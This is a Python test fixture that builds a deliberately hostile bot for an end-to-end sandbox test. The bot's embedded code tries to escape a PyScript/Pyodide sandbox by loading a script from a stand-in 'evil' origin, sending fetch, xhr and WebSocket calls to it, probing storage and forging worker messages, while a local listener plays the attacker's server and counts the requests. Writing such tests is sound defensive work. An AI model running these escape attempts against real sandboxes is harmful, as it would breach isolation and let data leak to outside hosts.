"""A hostile bot, as e2e/test_sandbox.py and the WebKit smoke run it: Python's own tries to
get out of the sandbox, then a script on the sandbox's page that tries every other way
(sandbox_attack.js), and a server on another origin that counts every request it is
sent (the attacker's)."""

from __future__ import annotations

import http.server
import json
import threading
from pathlib import Path

# JavaScript on the sandbox's page, loaded through PyScript's importJS.
ATTACK_JS = Path(__file__).with_name("sandbox_attack.js").read_text()

# The bot: Python's own attempts, then the script above on the sandbox's page. Its
# choose() says what Python found, so the page shows it as the bot's error.
HOSTILE = """

import time

import js
import pyodide.http
from polyscript import xworker

EVIL = "__EVIL__"
tried = []


def attempt(name, how):
    try:
        got = how()
        tried.append(f"{name}: reached {str(got)[:40]}")
    except BaseException as exc:
        tried.append(f"{name}: refused ({type(exc).__name__})")


SCRIPT = __SCRIPT__
options = js.JSON.parse('{"type": "text/javascript"}')
blob = js.URL.createObjectURL(js.Blob.new([SCRIPT], options))
attempt("importJS blob", lambda: xworker.sync.importJS(blob, "attack"))
attempt("importJS evil", lambda: xworker.sync.importJS(EVIL + "attack.js", "evil"))
attempt("xhr", lambda: pyodide.http.open_url(EVIL + "xhr").read())
attempt("fetch", lambda: js.fetch(EVIL + "worker-fetch"))
attempt("websocket", lambda: js.WebSocket.new(EVIL.replace("http", "ws") + "worker-ws"))
attempt("caches", lambda: js.caches.keys())
attempt("opfs", lambda: js.navigator.storage.getDirectory())
attempt("broadcast", lambda: js.BroadcastChannel.new("spygames").postMessage("pwned"))
attempt("forged beat", lambda: xworker.postMessage("theirs 1"))


calls = 0
looked = 0.0


def choose(view, legal, rng):
    # The bot plays on until the script on the sandbox's page has posted its report (or
    # for 300 decisions), then fails: so the report is on its way up the frames (sandbox,
    # host, the Lab, a blog) before the page ends the sandbox, even on a busy machine (a
    # clean run once lost it in the blog's frame). It looks at the page a few times a
    # second, not at every decision: each look waits for the page's thread.
    global calls, looked
    calls += 1
    if calls < 300 and (time.monotonic() - looked < 0.25 or not done()):
        return legal[0]
    raise RuntimeError("tried: " + " | ".join(tried))


def done():
    global looked
    looked = time.monotonic()
    return getattr(xworker.window, "spygamesAttackDone", False)
"""


def hostile(evil: str, site: str) -> str:
    script = ATTACK_JS.replace("__EVIL__", evil).replace("__SITE__", site)
    return HOSTILE.replace("__EVIL__", evil).replace("__SCRIPT__", json.dumps(script))


class Listener:
    """Another origin, as an attacker's server: counts every request it is sent."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
